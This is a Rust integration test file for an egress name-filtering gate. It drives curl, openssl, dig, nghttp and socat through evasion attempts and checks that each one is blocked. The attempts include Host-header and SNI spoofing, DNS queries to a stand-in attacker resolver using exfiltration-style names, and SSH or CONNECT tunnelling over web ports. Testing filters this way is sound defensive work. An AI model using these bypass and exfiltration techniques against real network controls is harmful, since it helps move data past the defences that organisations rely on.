//! The same by real programs: curl, openssl, dig, nghttp and socat behind the real gate.

use std::time::Duration;

use crate::common::far::Far;
use crate::common::namespace::inside;
use crate::common::world::{Gate, World, leaked, text, wait_until};

const RULES: &str = r#"
[capture]
interfaces = ["br-egress"]

[proxy]
sniff_timeout = "1500ms"

[dns]
upstreams = ["udp://192.0.2.53"]

[audit]
to = ["@DIR@/audit.jsonl"]

[[rule]]
id = "web"
names = ["good.example.com"]
"#;

/// A world with a gate, in which the client has looked up the allowed name.
fn behind_a_gate() -> (World, Far, Gate) {
    let mut world = World::new();
    let far = Far::start(&world);
    let gate = world.start_gate(RULES);
    let out = world.run("c1", "dig +short +tries=1 good.example.com A");
    assert!(text(&out.stdout).contains("203.0.113.10"), "{out:?}");
    (world, far, gate)
}

/// Whether a program is installed; it is told when it is not.
fn installed(program: &str) -> bool {
    let found = std::process::Command::new("sh").args(["-c", &format!("command -v {program}")]).output();
    let found = found.is_ok_and(|out| out.status.success());
    if !found {
        assert!(std::env::var_os("NAMEGATE_TEST_ALL").is_none(), "SKIPPED: {program} is not installed");
        eprintln!("SKIPPED: {program} is not installed");
    }
    found
}

/// A second request on curl's own connection names another host.
///
/// # Limitations
/// curl sends one request after the other; pipelined ones are in `host_swap`.
#[test]
fn curl_swaps_the_host_on_one_connection() {
    if !inside("clients::curl_swaps_the_host_on_one_connection") {
        return;
    }
    let (world, far, gate) = behind_a_gate();
    let url = "http://good.example.com/";
    let curl = world.curl("c1", &format!("-4 {url} --next -4 -sS -H 'Host: other.example.net' {url}"));
    assert!(curl.out.contains("hello from 203.0.113.10 to good.example.com"), "{curl:?}");
    assert!(curl.out.contains("name_changed") && !curl.out.contains("to other.example.net"), "{curl:?}");
    wait_until("the flow's end", Duration::from_secs(5), || gate.events("close").len() == 1);
    assert_eq!(far.connections("203.0.113.10:80"), 1);
    assert_eq!(leaked(&world), 0);
}

/// curl and nghttp speak HTTP/2 in clear to an allowed name's address, for another name; curl asks for an upgrade.
///
/// # Limitations
/// What an allowed name gets over HTTP/2 is not looked at here.
#[test]
fn http2_in_clear_carries_no_denied_name() {
    if !inside("clients::http2_in_clear_carries_no_denied_name") {
        return;
    }
    let (world, far, _gate) = behind_a_gate();
    let other = "--resolve other.example.net:80:203.0.113.10 http://other.example.net/";
    for form in ["--http2-prior-knowledge", "--http2"] {
        let curl = world.curl("c1", &format!("{form} {other}"));
        assert!(!curl.greeted(), "{form}: {curl:?}");
    }
    if installed("nghttp") {
        let line = "timeout 5 nghttp -v -H ':authority: other.example.net' http://203.0.113.10/";
        let out = world.run("c1", line);
        assert!(!text(&out.stdout).contains("hello from"), "{out:?}");
    }
    assert_eq!(far.all_connections(), 0);
    assert_eq!(leaked(&world), 0);
}

/// openssl sends no name, another name, and the allowed one in upper case with a final dot.
///
/// # Limitations
/// s_client writes no malformed hello; those are in `no_sni_and_odd_sni`.
#[test]
fn openssl_hides_and_changes_its_name() {
    if !inside("clients::openssl_hides_and_changes_its_name") {
        return;
    }
    let (world, far, gate) = behind_a_gate();
    let hello = |options: &str| {
        let seen = gate.events("decision").len();
        let line = format!("timeout 5 openssl s_client -connect 203.0.113.10:443 {options} </dev/null");
        let out = world.run("c1", &line);
        let reason = gate.decision_after(seen)["event"]["reason"].as_str().unwrap_or_default().to_owned();
        (reason, text(&out.stderr))
    };
    for (options, reason) in [
        ("-noservername", "nameless"),
        ("-servername other.example.net", "name_not_allowed"),
        ("-servername other.example.net -tls1_2", "name_not_allowed"),
        ("-servername good.example.com.attacker.test", "name_not_allowed"),
        ("-servername other.example.net -max_send_frag 512 -groups P-521:P-384", "name_not_allowed"),
    ] {
        let (heard, said) = hello(options);
        assert_eq!(heard, reason, "{options}: {said}");
        assert!(said.contains("alert number 49"), "{options}: {said}");
    }
    assert_eq!(far.all_connections(), 0);
    assert_eq!(hello("-servername GOOD.Example.com.").0, "allowed");
    wait_until("the allowed one", Duration::from_secs(5), || far.connections("203.0.113.10:443") == 1);
}

/// dig asks the attacker's resolver over UDP, TCP, TLS and HTTPS.
///
/// # Limitations
/// Nothing answers there: what counts is that no connection comes.
#[test]
fn dig_reaches_no_other_resolver_by_any_transport() {
    if !inside("clients::dig_reaches_no_other_resolver_by_any_transport") {
        return;
    }
    let (world, far, _gate) = behind_a_gate();
    for transport in ["", "+tcp", "+tls", "+https", "-p 5353"] {
        let name =
            format!("data{}.attacker.test", transport.trim_matches(|c: char| !c.is_alphanumeric()).len());
        let line = format!("timeout 8 dig +tries=1 +time=2 @203.0.113.66 {transport} {name}");
        let out = world.run("c1", &line);
        assert!(!text(&out.stdout).contains("status: NOERROR"), "{transport}: {out:?}");
        assert!(!far.was_asked(&name), "{transport}");
    }
    assert_eq!(far.all_connections(), 0);
    assert_eq!(leaked(&world), 0);
}

/// socat says SSH's first line, and a proxy's request, to ports of the web.
///
/// # Limitations
/// Protocols that a rule by address permits pass, whatever they are.
#[test]
fn socat_speaks_other_protocols_on_the_ports_of_the_web() {
    if !inside("clients::socat_speaks_other_protocols_on_the_ports_of_the_web") {
        return;
    }
    let (world, far, gate) = behind_a_gate();
    for (port, words, reason) in [
        (443, "SSH-2.0-x\\r\\n", "nameless"),
        (443, "\\005\\001\\000", "nameless"),
        (80, "CONNECT other.example.net:443 HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\n", "garbled"),
    ] {
        let seen = gate.events("decision").len();
        world.run("c1", &format!("printf '{words}' | timeout 6 socat -t3 - TCP:203.0.113.10:{port}"));
        assert_eq!(gate.decision_after(seen)["event"]["reason"], reason, "{words}");
    }
    assert_eq!(far.all_connections(), 0);
    assert_eq!(leaked(&world), 0);
}
